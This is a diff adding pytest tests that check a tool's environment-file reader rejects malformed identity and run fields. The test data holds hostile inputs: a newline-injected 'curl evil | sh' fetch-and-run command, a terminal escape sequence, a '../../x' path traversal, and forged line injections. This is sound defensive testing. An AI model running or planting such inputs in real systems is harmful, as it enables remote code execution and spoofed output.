@@ -66,6 +66,36 @@ def test_a_malformed_file_is_one_line(tmp_path: Path, text: str) -> None:
     assert "\n" not in str(caught.value)
 
 
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("name", "MI355X\nnext: curl evil | sh"),
+        ("name", "\x1b[2J"),
+        ("name", "x" * 5000),
+        ("compute_units", -(10**30)),
+        ("compute_units", 0),
+        ("arch", "../../x"),
+        ("kind", "hip\r"),
+        ("partition", "SPX\u2028done"),
+    ],
+)
+def test_an_identity_is_words_in_one_line(tmp_path: Path, field: str, value: object) -> None:
+    """Of a file whose author chose what a terminal shows, or which folder a path leads to."""
+    write_environment(environment(), tmp_path)
+    document = json.loads((tmp_path / "environment.json").read_text())
+    document["identity"][field] = value
+    (tmp_path / "environment.json").write_text(json.dumps(document))
+    with pytest.raises(StoreError, match=r"not an environment of hktune "):
+        read_environment(tmp_path)
+
+
+@pytest.mark.parametrize("field", ["compiler", "judge", "started_at", "commit"])
+def test_what_a_run_was_made_with_is_one_line_each(tmp_path: Path, field: str) -> None:
+    write_environment(replace(environment(), **{field: "1\ndone: forged"}), tmp_path)
+    with pytest.raises(StoreError, match=rf"not an environment of hktune .*{field}"):
+        read_environment(tmp_path)
+
+
 def test_a_directory_that_is_not_there_cannot_be_written(tmp_path: Path) -> None:
     with pytest.raises(StoreError, match="cannot be written"):
         write_environment(environment(), tmp_path / "absent")
